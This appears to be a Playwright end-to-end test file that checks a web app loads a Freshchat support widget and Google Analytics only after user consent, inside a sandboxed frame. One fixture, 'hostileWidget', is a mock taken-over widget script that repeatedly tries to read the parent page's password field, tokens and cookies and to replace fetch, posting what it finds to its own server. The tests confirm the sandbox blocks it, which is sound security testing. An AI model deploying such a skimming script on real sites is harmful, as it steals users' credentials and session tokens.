/** The support chat and the counting of pages: nothing before consent, and the answer can be changed. */
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from '@playwright/test'
import { expectAccessible } from './environment/accessibility.ts'
import { expect, test } from './environment/journey.ts'
import type { JourneyServer } from './environment/server.ts'
import { SettingsPage } from './pages/SettingsPage.ts'
import { SignInPage } from './pages/SignInPage.ts'

/** The server notices a setting within five seconds. */
const patience = { timeout: 20_000 }

/** Freshchat and Google Analytics: the widget is a button that can be opened and closed. */
async function startOutside(script = widget) {
  const requests: { readonly path: string; readonly at: number; readonly body: string }[] = []
  const server = createServer((request, response) => {
    let body = ''
    request.on('data', (chunk: Buffer) => (body += chunk.toString()))
    request.on('end', () => {
      requests.push({ path: request.url ?? '', at: Date.now(), body })
      if (!request.url?.startsWith('/js/')) return response.writeHead(204).end()
      response.writeHead(200, {
        'content-type': 'text/javascript',
        'cross-origin-resource-policy': 'cross-origin',
      })
      response.end(script)
    })
  })
  server.listen(0, '127.0.0.1')
  await once(server, 'listening')
  const { port } = server.address() as AddressInfo
  return {
    requests,
    address: `http://127.0.0.1:${port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections()
      server.close()
      await once(server, 'close')
    },
  }
}

const widget = `
const listeners = {}
let isOpen = false
globalThis.fcWidget = {
  on(name, listener) { listeners[name] = listener },
  init({ token, host, locale }) {
    const button = document.createElement('button')
    button.textContent = [token, locale].join(' ')
    button.style = 'position:fixed;right:16px;bottom:16px;width:60px;height:60px;border-radius:30px'
    button.onclick = () => listeners[(isOpen = !isOpen) ? 'widget:opened' : 'widget:closed']()
    document.body.append(button)
  },
}`

/** A script of Freshchat that was taken over: it tells what it can read and change, again and again. */
const hostileWidget = `
const { origin } = new URL(document.currentScript.src)
const attempts = {
  'the password': () => parent.document.querySelector('input[name=password]').value,
  'the address of the page': () => parent.location.href,
  'the calls of the page': () => { parent.fetch = () => {}; return 'replaced' },
  'the storage of the page': () => parent.localStorage.getItem('lustra.token'),
  'its own storage': () => localStorage.getItem('lustra.token'),
  'its cookies': () => document.cookie,
}
const report = (found) =>
  fetch(origin + '/report', { method: 'POST', mode: 'no-cors', body: JSON.stringify(found) })
setInterval(() => {
  for (const [what, attempt] of Object.entries(attempts)) {
    try { report({ what, read: String(attempt()) }) } catch { report({ what, read: null }) }
  }
  fetch(location.origin + '/web/api/v1/version', { method: 'POST', body: '{}' })
    .then((reply) => reply.text())
    .then((read) => report({ what: 'a call of its own', read }), () => report({ what: 'a call of its own', read: null }))
}, 300)
globalThis.fcWidget = { on() {}, init() {} }`

/** It cannot run without a storage, which a frame without an origin has not. */
const storingWidget = `
globalThis.fcWidget = { on() {}, init() { localStorage.setItem('visitor', '1') } }`

/** The page of the chat, in a frame that the application did not make. */
async function frameChat(page: Page): Promise<void> {
  await page.evaluate(
    () =>
      new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.addEventListener('load', resolve)
        frame.src = '/web/chat'
        document.body.append(frame)
      }),
  )
}

/** Opens the sign-in page of somebody who has allowed the chat, which has begun. */
async function switchOnChat(page: Page, server: JourneyServer, address: string): Promise<void> {
  await server.setSetting('freshchat_url', address)
  await server.setSetting('freshchat_token', 'a-token')
  await server.setSetting('freshchat_enabled', 'true')
  await page.addInitScript(() => {
    // A frame without an origin has no storage.
    if (window === top) localStorage.setItem('lustra.consent', 'chat=yes')
  })
  // A page that was sent before the server noticed the setting admits no frame.
  await expect(async () => {
    const { 'content-security-policy': policy } = (await page.request.get('/web/login')).headers()
    expect(policy).toContain('frame-src')
  }).toPass(patience)
  await expect(async () => {
    const script = page.waitForResponse(`${address}/js/widget.js`, { timeout: 4000 })
    await page.goto('/web/login')
    await script
  }).toPass(patience)
}

const overflowOf = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)

for (const [language, theme] of [
  ['en', 'light'],
  ['ru', 'dark'],
] as const) {
  test.describe(`in ${language}`, () => {
    test.use({ language, theme })
    test.describe.configure({ timeout: 120_000 })

    test.describe(() => {
      // The address of the chat's frame, opened without one, has no page.
      test.use({ signedIn: false, expectedErrors: [/status of 404/] })

      test('the chat begins 1.5 seconds after the page, after consent only, and ends with it (ACC-002, INT-050, INT-051, INT-N17)', async ({
        page,
        words,
        server,
      }) => {
        const { consent: texts } = words
        const question = page.getByRole('region', { name: texts.question })
        // A former test turned the chat off, which the server notices later.
        await expect(async () => {
          await page.goto('/web/login')
          await expect(page.getByText(/Lustra \d/)).toBeVisible()
          await expect(question).toBeHidden({ timeout: 1000 })
        }).toPass(patience)

        await using freshchat = await startOutside()
        await server.setSetting('freshchat_url', freshchat.address)
        await server.setSetting('freshchat_token', 'a-token')
        await server.setSetting('freshchat_enabled', 'true')
        await expect(async () => {
          await page.goto('/web/login')
          await expect(question).toBeVisible({ timeout: 1000 })
        }).toPass(patience)
        await expect(question).toContainText(texts.about.chat)
        await expect(question).not.toContainText(texts.about.analytics)
        await expectAccessible(page, 'main')

        for (const viewport of [
          { width: 1440, height: 900 },
          { width: 390, height: 844 },
        ]) {
          await page.setViewportSize(viewport)
          expect(await overflowOf(page), 'pixels beyond the width').toBeLessThanOrEqual(0)
          // A covered control could not be clicked.
          for (const control of await page.getByRole('main').getByRole('button', { disabled: false }).all()) {
            await control.click({ trial: true })
          }
          for (const link of await page.getByRole('main').getByRole('link').all()) {
            await link.click({ trial: true })
          }
        }
        await page.waitForTimeout(2000)
        expect(freshchat.requests).toEqual([])

        // By keyboard: refused, remembered, and changed.
        await page.getByRole('button', { name: texts.refuse }).press('Enter')
        await expect(page.getByRole('button', { name: texts.change })).toBeFocused()
        await page.goto('/web/register')
        await expect(page.getByText(texts.states.chat.off)).toBeVisible()
        await expect(question).toBeHidden()
        await page.waitForTimeout(2000)
        expect(freshchat.requests).toEqual([])
        await frameChat(page)
        await page.waitForTimeout(500)
        expect(freshchat.requests, 'without consent').toEqual([])
        await page.goto('/web/register')
        await page.getByRole('button', { name: texts.change }).press('Enter')
        await expect(page.getByRole('button', { name: texts.allow, exact: true })).toBeFocused()
        await page.keyboard.press('Enter')
        await expect(page.getByText(texts.states.chat.on)).toBeVisible()
        const frame = page.frameLocator(`iframe[title="${texts.chat}"]`)
        await expect(frame.getByRole('button', { name: `a-token ${language}` })).toBeVisible()

        for (const path of ['/web/login', '/web/register', '/web/reset-password']) {
          freshchat.requests.length = 0
          const openedAt = Date.now()
          await page.goto(path)
          await expect(frame.getByRole('button')).toBeVisible()
          expect(freshchat.requests).toHaveLength(1)
          expect(freshchat.requests[0]!.at - openedAt).toBeGreaterThanOrEqual(1500)
        }
        const link = page.getByRole('link', { name: texts.chatWindow })
        await expect(link).toHaveAttribute('target', '_blank')
        await expect(link).toHaveAttribute('rel', /noopener/)
        const { status, location } = await page.request
          .get((await link.getAttribute('href'))!, { maxRedirects: 0 })
          .then((reply) => ({ status: reply.status(), location: reply.headers()['location']! }))
        expect([status, new URL(location).origin]).toEqual([302, freshchat.address])
        const closed = (await page.locator('iframe').boundingBox())!
        expect(closed.width).toBeLessThan(100)
        await frame.getByRole('button').click()
        await expect.poll(async () => (await page.locator('iframe').boundingBox())!.width).toBe(390)
        await frame.getByRole('button').click()
        await expect.poll(async () => (await page.locator('iframe').boundingBox())!.width).toBe(closed.width)

        // Other pages have none, nor has its own address.
        freshchat.requests.length = 0
        expect((await page.goto('/web/chat'))!.status()).toBe(404)
        await page.goto('/web/privacy')
        await page.waitForTimeout(2000)
        await expect(page.locator('iframe')).toHaveCount(0)
        expect(freshchat.requests).toEqual([])
        await page.goto('/web/login')
        await expect(frame.getByRole('button')).toBeVisible()
        await server.setSetting('freshchat_enabled', 'false')
      })

      test('the chat ends when somebody signs in, who gets a new page (INT-N17)', async ({
        page,
        words,
        server,
        person,
      }) => {
        await using freshchat = await startOutside()
        await switchOnChat(page, server, freshchat.address)
        await page.evaluate(() => Object.assign(window, { isFormerPage: true }))
        await new SignInPage(page, words).logIn(person.email, person.password)
        await expect(page).toHaveURL(/dashboard/)
        await expect(page.locator('iframe')).toHaveCount(0)
        expect(page.frames()).toHaveLength(1)
        expect(await page.evaluate(() => 'isFormerPage' in window)).toBe(false)
        freshchat.requests.length = 0
        await frameChat(page)
        await page.waitForTimeout(500)
        expect(freshchat.requests, 'with a session').toEqual([])
        await server.setSetting('freshchat_enabled', 'false')
      })
    })

    test.describe(() => {
      // What the browser keeps from the scripts of the chat.
      test.use({
        signedIn: false,
        expectedErrors: [/\/web\/chat|sandbox|Content Security Policy|localStorage|\/web\/api/],
      })

      test('a hostile widget reads nothing of the page, replaces no call, and has no token after the sign-in (INT-N17)', async ({
        page,
        words,
        server,
        person,
      }) => {
        await using freshchat = await startOutside(hostileWidget)
        await switchOnChat(page, server, freshchat.address)
        const reports = () =>
          freshchat.requests
            .filter(({ path }) => path === '/report')
            .map(({ body }) => JSON.parse(body) as { what: string; read: string | null })
        await page.getByLabel(words.account.password, { exact: true }).fill(person.password)
        await expect
          .poll(() => reports().filter(({ what }) => what === 'the password').length)
          .toBeGreaterThan(2)
        await expect.poll(() => reports().some(({ what }) => what === 'a call of its own')).toBe(true)
        expect(await page.evaluate(() => String(fetch))).toContain('[native code]')
        await new SignInPage(page, words).logIn(person.email, person.password)
        await expect(page).toHaveURL(/dashboard/)
        expect(page.frames()).toHaveLength(1)
        freshchat.requests.push({ path: 'signed in', at: Date.now(), body: '' })
        await page.waitForTimeout(1500)
        expect(reports().filter(({ read }) => read !== null)).toEqual([])
        const after = freshchat.requests.findIndex(({ path }) => path === 'signed in')
        // What was on its way when the page ended.
        const late = freshchat.requests
          .slice(after)
          .filter(({ at }) => at - freshchat.requests[after]!.at > 500)
        expect(late).toEqual([])
        await server.setSetting('freshchat_enabled', 'false')
      })

      test('a widget that cannot run without a storage leaves the link to a window of its own (ACC-002, INT-050)', async ({
        page,
        words,
        server,
      }) => {
        await using freshchat = await startOutside(storingWidget)
        await switchOnChat(page, server, freshchat.address)
        await expect(page.locator('iframe')).toHaveCount(0)
        await expect(page.getByRole('link', { name: words.consent.chatWindow })).toBeVisible()
        await server.setSetting('freshchat_enabled', 'false')
      })
    })

    test('pages are counted after consent only, which the settings change (INT-014, INT-N17)', async ({
      page,
      words,
      server,
    }) => {
      const { consent: texts } = words
      const settings = new SettingsPage(page, words)
      const allow = page.getByRole('switch', { name: texts.switches.analytics })
      await expect(async () => {
        await settings.open()
        await expect(allow).toBeHidden({ timeout: 1000 })
      }).toPass(patience)

      await using google = await startOutside()
      await server.setSetting('google_analytics_url', google.address)
      await server.setSetting('google_analytics_id', 'G-TEST1')
      await server.setSetting('google_analytics_secret', 'a secret')
      await server.setSetting('google_analytics_enabled', 'true')
      await expect(async () => {
        await settings.open()
        await expect(allow).toBeVisible({ timeout: 1000 })
      }).toPass(patience)
      const counted: string[] = []
      page.on('request', (request) => {
        if (request.url().endsWith('/v2/analytics')) counted.push(request.url())
      })
      await page.goto('/web/tasks')
      await page.getByRole('main').waitFor()
      await settings.open()
      expect([counted, google.requests]).toEqual([[], []])

      await expect(allow).not.toBeChecked()
      await allow.click()
      await expect(allow).toBeChecked()
      await expectAccessible(page, 'main')
      await page.setViewportSize({ width: 390, height: 844 })
      expect(await overflowOf(page), 'pixels beyond the width of a phone').toBeLessThanOrEqual(0)
      const pages = () =>
        google.requests.flatMap(({ body }) =>
          (JSON.parse(body) as { events: { params: { page_location: string } }[] }).events.map(
            ({ params }) => new URL(params.page_location).pathname,
          ),
        )
      await expect.poll(pages).toEqual(['/web/settings'])
      await page.goto('/web/inbox')
      await expect.poll(pages).toEqual(['/web/settings', '/web/inbox'])

      await settings.open()
      await expect.poll(() => pages().length).toBe(3)
      await allow.click()
      await expect(allow).not.toBeChecked()
      expect(await page.evaluate(() => localStorage.getItem('lustra.analytics-id'))).toBeNull()
      await page.goto('/web/inbox')
      await page.getByRole('main').waitFor()
      await page.waitForTimeout(1000)
      expect(pages()).toHaveLength(3)

      await settings.open()
      await allow.click()
      await expect(allow).toBeChecked()
      await settings.undo.click()
      await expect(allow).not.toBeChecked()
      await server.setSetting('google_analytics_enabled', 'false')
    })
  })
}
